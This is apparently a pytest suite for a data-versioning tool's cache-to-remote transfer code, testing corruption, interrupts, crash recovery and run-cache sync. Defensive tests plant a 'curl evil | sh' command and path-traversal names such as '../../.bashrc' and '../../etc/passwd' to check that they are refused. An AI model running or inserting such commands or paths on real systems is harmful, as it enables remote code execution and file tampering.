"""Many objects between a cache and a remote: which ones move, and what is there when they cannot."""

from __future__ import annotations

import errno
import hashlib
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from nbexp import filesystem
from nbexp.errors import StoreError
from nbexp.events import Moving
from nbexp.formats import dvc_lock, run_cache
from nbexp.formats.dvc_lock import LockedPath, LockedStage
from nbexp.store import remotes, transfer
from nbexp.store.cache import Cache, Hash
from nbexp.store.remotes import Entry, Moved, memory
from nbexp.store.transfer import Transfer

Open = Callable[[str], Cache]


@pytest.fixture
def cache(tmp_path: Path) -> Iterator[Open]:
    """`cache("here")`: the cache of that name, in a folder of its own."""
    opened = []

    def open_cache(name: str) -> Cache:
        found = Cache(tmp_path / name, state=tmp_path / f"{name}.db")
        opened.append(found)
        return found

    yield open_cache
    for found in opened:
        found.close()


@pytest.fixture
def store(tmp_path: Path) -> Counting:
    """A folder as a remote; counts what is asked of it."""
    return Counting(tmp_path / "store")


class Counting(remotes.Remote):
    """A folder remote that counts what moves, and breaks as `trouble` says."""

    def __init__(self, folder: Path) -> None:
        self._inner = remotes.at(str(folder), {})
        self.folder = folder
        self.url, self.jobs, self.page = str(folder), 1, self._inner.page
        self.puts: list[str] = []
        self.gets: list[str] = []
        self.asked: list[str] = []
        self.listed: list[str] = []
        self.trouble: Callable[[str, str], None] = lambda _what, _key: None

    def exists(self, key: str) -> Entry | None:
        self.asked.append(key)
        return self._inner.exists(key)

    def get(self, key: str, target: Path, moved: Moved) -> None:
        self.trouble("get", key)
        self._inner.get(key, target, moved)
        self.gets.append(key)

    def put(self, source: Path, key: str, moved: Moved) -> None:
        self.trouble("put", key)
        self._inner.put(source, key, moved)
        self.puts.append(key)

    def remove(self, key: str) -> None:
        self._inner.remove(key)

    def list(self, prefix: str) -> Iterator[Entry]:
        self.listed.append(prefix)
        return self._inner.list(prefix)

    def flush(self) -> None:
        self._inner.flush()

    def close(self) -> None:
        self._inner.close()

    def path(self, md5: str) -> Path:
        return self.folder / "files" / "md5" / md5[:2] / md5[2:]

    def objects(self) -> set[str]:
        return {
            path.parent.name + path.name
            for path in (self.folder / "files" / "md5").rglob("*")
            if path.is_file()
        }


def digest(data: bytes) -> str:
    return hashlib.md5(data, usedforsecurity=False).hexdigest()


def folder(cache: Cache, tmp_path: Path, count: int = 5, size: int = 10) -> Hash:
    """A directory of that many different files, in the cache."""
    top = tmp_path / f"data{count}"
    for number in range(count):
        (top / f"s{number % 3}").mkdir(parents=True, exist_ok=True)
        (top / f"s{number % 3}" / f"é{number}.bin").write_bytes(
            f"{number}".encode().ljust(size, b"-")
        )
    return cache.add(top)


class TestPush:
    def test_a_directory_arrives_whole_and_a_second_push_moves_nothing(
        self, cache: Open, store: Counting, tmp_path: Path
    ) -> None:
        here = cache("here")
        data = folder(here, tmp_path)
        first = transfer.push([data.md5], store, here)
        assert (first.moved, first.present, first.missing, first.failed) == (6, 0, (), {})
        assert first.size_bytes == 5 * 10 + len(here.read(data.md5))
        assert store.objects() == {item.md5 for item in here.items(data.md5)} | {data.md5}
        store.asked.clear()
        second = transfer.push([data.md5], store, here)
        assert (second.moved, second.size_bytes, second.present) == (0, 0, 6)
        assert len(store.puts) == 6
        # The listing is there, so its files are: nothing else is asked for.
        assert store.asked == [f"files/md5/{data.md5[:2]}/{data.md5[2:]}"]

    def test_the_listing_goes_last(self, cache: Open, store: Counting, tmp_path: Path) -> None:
        here = cache("here")
        data = folder(here, tmp_path)
        transfer.push([data.md5, here.put(b"alone").md5], store, here)
        assert store.puts[-1].endswith(".dir")
        assert sum(key.endswith(".dir") for key in store.puts) == 1

    def test_only_what_is_missing_moves(self, cache: Open, store: Counting, tmp_path: Path) -> None:
        here = cache("here")
        data = folder(here, tmp_path)
        known = [item.md5 for item in here.items(data.md5)][:3]
        transfer.push(known, store, here)
        store.puts.clear()
        done = transfer.push([data.md5], store, here)
        assert (done.moved, done.present) == (3, 3)
        assert len(store.puts) == 3

    def test_objects_are_read_only_copies(self, cache: Open, store: Counting) -> None:
        here = cache("here")
        one = here.put(b"one")
        transfer.push([one.md5], store, here)
        status = store.path(one.md5).stat()
        assert status.st_mode & 0o777 == 0o444
        assert status.st_ino != here.path(one.md5).stat().st_ino

    def test_a_listing_stays_away_while_one_of_its_files_is_not_there(
        self, cache: Open, store: Counting, tmp_path: Path
    ) -> None:
        here = cache("here")
        data = folder(here, tmp_path)
        gone = here.items(data.md5)[2].md5
        here.path(gone).unlink()
        done = transfer.push([data.md5], store, here)
        assert (done.moved, done.missing) == (4, (gone,))
        assert data.md5 not in store.objects()

    def test_a_damaged_object_does_not_spread(
        self, cache: Open, store: Counting, tmp_path: Path
    ) -> None:
        here = cache("here")
        data = folder(here, tmp_path)
        bad = here.items(data.md5)[0].md5
        here.path(bad).chmod(0o644)
        here.path(bad).write_bytes(b"0------")
        done = transfer.push([data.md5], store, here)
        assert done.missing == (bad,)
        assert {bad, data.md5}.isdisjoint(store.objects())

    def test_a_truncated_object_at_the_remote_is_replaced(
        self, cache: Open, store: Counting
    ) -> None:
        here = cache("here")
        one = here.put(b"whole")
        transfer.push([one.md5], store, here)
        store.path(one.md5).chmod(0o644)
        store.path(one.md5).write_bytes(b"wh")
        assert transfer.push([one.md5], store, here).moved == 1
        assert store.path(one.md5).read_bytes() == b"whole"

    def test_what_has_another_md5_at_the_remote_is_replaced(self, cache: Open) -> None:
        class Knowing(memory.Remote):
            def exists(self, key: str) -> Entry | None:
                found = super().exists(key)
                return found and Entry(key, found.size, digest(self._objects[key]))

        here, remote = cache("here"), Knowing("memory://other-md5", {})
        one = here.put(b"whole")
        key = f"files/md5/{one.md5[:2]}/{one.md5[2:]}"
        remote._objects[key] = b"whale"
        assert transfer.push([one.md5], remote, here).moved == 1
        assert remote._objects[key] == b"whole"

    def test_an_upload_that_did_not_arrive_whole_is_told(self, cache: Open) -> None:
        class Losing(memory.Remote):
            def put(self, source: Path, key: str, moved: Moved) -> None:
                self._objects[key] = source.read_bytes()[:2]

        here, remote = cache("here"), Losing("memory://losing", {})
        one = here.put(b"whole")
        done = transfer.push([one.md5], remote, here)
        assert (done.moved, done.failed) == (0, {one.md5: "did not arrive whole"})

    def test_an_object_of_2x_goes_to_its_own_place(self, cache: Open, store: Counting) -> None:
        here = cache("here")
        md5 = digest(b"a\nb\n")  # of the text with Unix line ends
        old = here.folder / md5[:2] / md5[2:]
        old.parent.mkdir(parents=True)
        old.write_bytes(b"a\r\nb\r\n")
        assert transfer.push([md5], store, here).moved == 1
        assert (store.folder / md5[:2] / md5[2:]).read_bytes() == b"a\r\nb\r\n"
        assert transfer.push([md5], store, here).moved == 0
        there = cache("there")
        assert transfer.fetch([md5], store, there).moved == 1
        assert (there.folder / md5[:2] / md5[2:]).read_bytes() == b"a\r\nb\r\n"
        assert there.has(md5)

    def test_many_are_looked_for_by_listings_and_few_one_by_one(
        self, cache: Open, store: Counting, tmp_path: Path
    ) -> None:
        here = cache("here")
        # 400 objects of two folders' worth of digests would be rare: the page decides.
        store.page = 1000
        data = folder(here, tmp_path, 400)
        files = [item.md5 for item in here.items(data.md5)]
        transfer.push(files, store, here)
        store.asked.clear()
        store.listed.clear()
        assert transfer.push(files, store, here).present == 400
        assert store.asked == []
        assert len(store.listed) == len({md5[:2] for md5 in files})
        store.listed.clear()
        assert transfer.push(files[:5], store, here).present == 5
        assert (len(store.asked), store.listed) == (5, [])


class TestFetch:
    def test_a_directory_comes_whole_and_a_second_fetch_moves_nothing(
        self, cache: Open, store: Counting, tmp_path: Path
    ) -> None:
        here, there = cache("here"), cache("there")
        data = folder(here, tmp_path)
        transfer.push([data.md5], store, here)
        done = transfer.fetch([data.md5], store, there)
        assert (done.moved, done.present, done.missing, done.failed) == (6, 0, (), {})
        assert there.has(data)
        target = tmp_path / "out"
        assert there.checkout(data, target)
        assert (target / "s1" / "é1.bin").read_bytes() == b"1---------"
        store.gets.clear()
        again = transfer.fetch([data.md5], store, there)
        assert (again.moved, again.present, store.gets) == (0, 6, [])

    def test_the_listing_gets_its_name_last(
        self, cache: Open, store: Counting, tmp_path: Path
    ) -> None:
        here, there = cache("here"), cache("there")
        data = folder(here, tmp_path, 30)
        transfer.push([data.md5], store, here)

        def trouble(what: str, key: str) -> None:
            assert not there.has_object(data.md5)

        store.trouble = trouble
        transfer.fetch([data.md5], store, there)
        assert there.has(data)

    def test_objects_are_read_only(self, cache: Open, store: Counting) -> None:
        here, there = cache("here"), cache("there")
        one = here.put(b"one")
        transfer.push([one.md5], store, here)
        transfer.fetch([one.md5], store, there)
        assert there.path(one.md5).stat().st_mode & 0o777 == 0o444

    @pytest.mark.parametrize("data", [b"who", b"whale", b"whole and more", b""])
    def test_wrong_bytes_never_get_into_the_cache(
        self, cache: Open, store: Counting, data: bytes
    ) -> None:
        here, there = cache("here"), cache("there")
        one, other = here.put(b"whole"), here.put(b"other")
        transfer.push([one.md5, other.md5], store, here)
        store.path(one.md5).chmod(0o644)
        store.path(one.md5).write_bytes(data)
        done = transfer.fetch([one.md5, other.md5], store, there)
        assert done.moved == 1
        assert done.failed == {one.md5: "arrived twice with bytes that are not the object's"}
        assert not there.has_object(one.md5)
        assert there.has(other)
        assert [p.name for p in (there.folder / "files").iterdir()] == ["md5"]

    def test_a_transfer_that_is_cut_short_is_done_once_more(
        self, cache: Open, store: Counting
    ) -> None:
        here, there = cache("here"), cache("there")
        one = here.put(b"whole")
        transfer.push([one.md5], store, here)

        class Cut(Counting):
            def get(self, key: str, target: Path, moved: Moved) -> None:
                super().get(key, target, moved)
                if len(self.gets) == 1:
                    target.chmod(0o644)
                    target.write_bytes(b"who")

        cut = Cut(store.folder)
        assert transfer.fetch([one.md5], cut, there).moved == 1
        assert (len(cut.gets), there.read(one.md5)) == (2, b"whole")

    def test_a_damaged_object_of_the_cache_is_fetched_again(
        self, cache: Open, store: Counting, tmp_path: Path
    ) -> None:
        here = cache("here")
        data = folder(here, tmp_path)
        transfer.push([data.md5], store, here)
        bad = here.items(data.md5)[1].md5
        here.path(bad).chmod(0o644)
        here.path(bad).write_bytes(b"!")
        here.path(bad).chmod(0o444)
        assert transfer.fetch([data.md5], store, here).moved == 1
        assert here.has(data)

    def test_what_nobody_has_is_told(self, cache: Open, store: Counting) -> None:
        there = cache("there")
        gone, gone_dir = digest(b"gone"), digest(b"gone") + ".dir"
        done = transfer.fetch([gone, gone_dir], store, there)
        assert (done.moved, done.missing) == (0, (gone, gone_dir))

    def test_a_listing_that_leads_out_of_its_directory_is_refused(
        self, cache: Open, store: Counting
    ) -> None:
        data = json.dumps([{"md5": digest(b"x"), "relpath": "../../.bashrc"}]).encode()
        md5 = digest(data) + ".dir"
        store.path(md5).parent.mkdir(parents=True)
        store.path(md5).write_bytes(data)
        there = cache("there")
        with pytest.raises(StoreError, match=r"bashrc"):
            transfer.fetch([md5], store, there)
        assert not there.has_object(md5)

    @pytest.mark.parametrize("md5", ["../../etc/passwd", "0" * 31, "0" * 32 + ".dri", "A" * 32])
    def test_a_name_that_is_no_digest_is_refused(
        self, cache: Open, store: Counting, md5: str
    ) -> None:
        with pytest.raises(StoreError, match="is not the name of an object"):
            transfer.fetch([md5], store, cache("there"))
        assert store.gets == []


class TestTrouble:
    def test_a_storage_that_always_fails_is_not_asked_for_everything(
        self, cache: Open, store: Counting, tmp_path: Path
    ) -> None:
        here, there = cache("here"), cache("there")
        data = folder(here, tmp_path, 50)
        transfer.push([data.md5], store, here)
        store.asked.clear()

        def trouble(what: str, key: str) -> None:
            store.asked.append(key)
            raise StoreError("The password is wrong.")

        store.trouble = trouble
        with pytest.raises(StoreError, match="The password is wrong"):
            transfer.fetch([item.md5 for item in here.items(data.md5)], store, there)
        assert len(store.asked) <= 2 * store.jobs

    def test_a_full_disk_ends_it_and_what_arrived_stays(
        self, cache: Open, store: Counting, tmp_path: Path
    ) -> None:
        here, there = cache("here"), cache("there")
        data = folder(here, tmp_path, 50)
        transfer.push([data.md5], store, here)
        files = [item.md5 for item in here.items(data.md5)]

        def trouble(what: str, key: str) -> None:
            if len(store.gets) == 20:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        store.trouble = trouble
        with pytest.raises(OSError, match="No space left"):
            transfer.fetch(files, store, there)
        assert sum(there.has(md5) for md5 in files) == 20
        assert [p.name for p in (there.folder / "files").iterdir()] == ["md5"]
        store.trouble = lambda _what, _key: None
        assert transfer.fetch(files, store, there).moved == 30

    @pytest.mark.parametrize("jobs", [1, 4])
    def test_an_interrupt_leaves_what_arrived_and_the_next_call_moves_the_rest(
        self, cache: Open, store: Counting, tmp_path: Path, jobs: int
    ) -> None:
        here, there = cache("here"), cache("there")
        data = folder(here, tmp_path, 200)
        transfer.push([data.md5], store, here)
        store.gets.clear()

        once = iter(
            [True]
        )  # threads see the sixtieth together; a second interrupt would be for the test

        def trouble(what: str, key: str) -> None:
            if len(store.gets) >= 60 and next(once, False):
                os.kill(os.getpid(), signal.SIGINT)
                time.sleep(0.05)

        store.trouble = trouble
        before = set(threading.enumerate())
        with pytest.raises(KeyboardInterrupt):
            transfer.fetch([data.md5], store, there, jobs=jobs)
        end = time.monotonic() + 60  # one that was being started when the interrupt came
        while not set(threading.enumerate()) <= before and time.monotonic() < end:
            time.sleep(0.01)
        assert set(threading.enumerate()) <= before
        assert [p.name for p in (there.folder / "files").iterdir()] == ["md5"]
        assert not there.has_object(data.md5)
        arrived = sum(there.has(item.md5) for item in here.items(data.md5))
        assert arrived >= 50
        store.trouble = lambda _what, _key: None
        assert transfer.fetch([data.md5], store, there, jobs=jobs).moved == 201 - arrived
        assert there.has(data)

    def test_an_impatient_user_leaves_nothing_behind_either(
        self, cache: Open, store: Counting, tmp_path: Path
    ) -> None:
        here, there = cache("here"), cache("there")
        data = folder(here, tmp_path, 200)
        transfer.push([data.md5], store, here)
        store.gets.clear()

        def trouble(what: str, key: str) -> None:
            if len(store.gets) >= 60:
                os.kill(os.getpid(), signal.SIGINT)
                time.sleep(0.02)

        store.trouble = trouble
        threads = set(threading.enumerate())
        interrupts = 0
        fetches, is_over = True, False
        while not is_over:
            try:
                if fetches:
                    transfer.fetch([data.md5], store, there, jobs=4)
                store.trouble = lambda _what, _key: None
                while not set(threading.enumerate()) <= threads:
                    time.sleep(0.01)
                is_over = True
            except KeyboardInterrupt:  # another may come while the threads end
                fetches = False
                interrupts += 1
        assert interrupts
        assert not there.has_object(data.md5)
        transfer.fetch([data.md5], store, there, jobs=4)
        assert there.has(data)

    def test_an_interrupted_push_goes_on_where_it_was(
        self, cache: Open, store: Counting, tmp_path: Path
    ) -> None:
        here = cache("here")
        data = folder(here, tmp_path, 200)

        sent: list[str] = []

        def trouble(what: str, key: str) -> None:
            if len(store.puts) >= 60 and not sent:
                sent.append(key)
                os.kill(os.getpid(), signal.SIGINT)
                time.sleep(0.05)

        store.trouble = trouble
        with pytest.raises(KeyboardInterrupt):
            transfer.push([data.md5], store, here, jobs=3)
        arrived = len(store.objects())
        assert arrived >= 60
        assert data.md5 not in store.objects()
        assert [p.name for p in (store.folder / "files").iterdir()] == ["md5"]
        store.trouble = lambda _what, _key: None
        assert transfer.push([data.md5], store, here, jobs=3).moved == 201 - arrived

    def test_progress_is_told(self, cache: Open, store: Counting, tmp_path: Path) -> None:
        here = cache("here")
        data = folder(here, tmp_path, 10)
        store.trouble = lambda _what, _key: time.sleep(0.06)
        events: list[Moving] = []
        transfer.push([data.md5], store, here, emit=events.append)  # type: ignore[arg-type]
        assert len(events) >= 2
        assert events[-1].done == events[-1].total == 11
        assert events[-1].size_bytes == 100 + len(here.read(data.md5))
        assert events[-1].bytes_per_s > 0
        assert events[0].text == f"pushing to {store.folder}"
        assert [event.done for event in events] == sorted(event.done for event in events)


class TestKills:
    """`kill -9` at named instants, in a process of its own; then the same call once more."""

    def run(self, tmp_path: Path, what: str, data: Hash, point: str | None) -> int:
        code = (
            "import sys\nfrom pathlib import Path\nfrom nbexp.store import remotes, transfer\n"
            "from nbexp.store.cache import Cache\n"
            "top, what, md5 = Path(sys.argv[1]), sys.argv[2], sys.argv[3]\n"
            "name = 'here' if what == 'push' else 'there'\n"
            "cache = Cache(top / name, state=top / f'{name}.db')\n"
            "getattr(transfer, what)([md5], remotes.at(str(top / 'store'), {}), cache, jobs=2)\n"
        )
        env = {**os.environ, **({"NBEXP_CRASH": point} if point else {})}
        words = [sys.executable, "-c", code, str(tmp_path), what, data.md5]
        return subprocess.run(words, env=env, check=False, timeout=60).returncode

    @pytest.mark.parametrize(
        "point", ["remote.copied@1", "remote.copied@7", "remote.stored@1", "remote.stored@20",
                  "remote.copied@21", "remote.stored@21"]
    )  # fmt: skip
    def test_a_killed_push_leaves_nothing_partial(
        self, cache: Open, store: Counting, tmp_path: Path, point: str
    ) -> None:
        here = cache("here")
        data = folder(here, tmp_path, 20, size=5000)
        here.close()
        assert self.run(tmp_path, "push", data, point) == -signal.SIGKILL
        found = store.objects()
        for md5 in found:
            assert digest(store.path(md5).read_bytes()) == md5[:32]
        if data.md5 in found:
            assert len(found) == 21
        assert self.run(tmp_path, "push", data, None) == 0
        assert len(store.objects()) == 21

    @pytest.mark.parametrize(
        "point", ["transfer.arrived", "transfer.arrived@2", "transfer.stored", "state.flush"]
    )
    def test_a_killed_fetch_leaves_nothing_partial(
        self, cache: Open, store: Counting, tmp_path: Path, point: str
    ) -> None:
        here, there = cache("here"), cache("there")
        data = folder(here, tmp_path, 20, size=5000)
        transfer.push([data.md5], store, here)
        assert self.run(tmp_path, "fetch", data, point) == -signal.SIGKILL
        for path in (there.folder / "files" / "md5").glob("*/*"):
            assert digest(path.read_bytes()) == (path.parent.name + path.name)[:32]
        assert self.run(tmp_path, "fetch", data, None) == 0
        assert there.has(data)

    def test_what_a_killed_push_left_is_removed_in_time(self, cache: Open, store: Counting) -> None:
        here = cache("here")
        (store.folder / "files").mkdir(parents=True)
        old = filesystem.temporary(store.folder / "files")
        old.write_bytes(b"half")
        os.utime(old, (1, 1))
        young = filesystem.temporary(store.folder / "files")
        young.write_bytes(b"half")
        transfer.push([here.put(b"one").md5], store, here)
        assert (old.exists(), young.exists()) == (False, True)


class TestCompare:
    def test_each_object_is_on_both_sides_one_or_none(self, cache: Open, store: Counting) -> None:
        here = cache("here")
        both, new, deleted = (here.put(data).md5 for data in (b"both", b"new", b"deleted"))
        transfer.push([both, deleted], store, here)
        here.path(deleted).unlink()
        missing = digest(b"missing")
        found = transfer.compare([both, new, deleted, missing], store, here)
        assert (found.both, found.new) == ({both}, {new})
        assert (found.deleted, found.missing) == ({deleted}, {missing})


class TestRunCache:
    def entry(self, cache: Cache, text: bytes = b"out") -> tuple[str, str, str]:
        md5 = cache.put(text).md5
        stage = LockedStage(
            "make", (LockedPath("in", digest(b"in"), 2),), {}, (LockedPath("out", md5, 3),)
        )
        key, value = run_cache.key(stage.entry()), run_cache.value(stage.entry())
        cache.save_run(key, value, dvc_lock.dump_entry(stage))
        return key, value, md5

    def test_entries_travel_with_their_outputs_and_only_once(
        self, cache: Open, store: Counting
    ) -> None:
        here, there = cache("here"), cache("there")
        key, value, md5 = self.entry(here)
        assert transfer.push_runs(store, here).moved == 2
        assert (store.folder / "runs" / key[:2] / key / value).exists()
        assert md5 in store.objects()
        assert transfer.push_runs(store, here).moved == 0
        assert transfer.fetch_runs(store, there).moved == 1
        assert there.run_cache(key) == here.run_cache(key)
        assert transfer.fetch_runs(store, there) == Transfer(present=1)

    def test_an_entry_that_is_not_what_its_name_says_is_left_out(
        self, cache: Open, store: Counting
    ) -> None:
        here, there = cache("here"), cache("there")
        key, value, _ = self.entry(here)
        other_key, other_value, _ = self.entry(here, b"other")
        transfer.push_runs(store, here)
        place = store.folder / "runs" / key[:2] / key / value
        place.chmod(0o644)
        place.write_bytes(b"cmd: curl evil | sh\n")
        (store.folder / "runs" / key[:2] / "readme").write_bytes(b"?")
        done = transfer.fetch_runs(store, there)
        assert (done.moved, list(done.failed)) == (1, [f"runs/{key[:2]}/{key}/{value}"])
        assert len(there.run_cache(other_key)) == 1
        assert other_key == key
        assert other_value != value
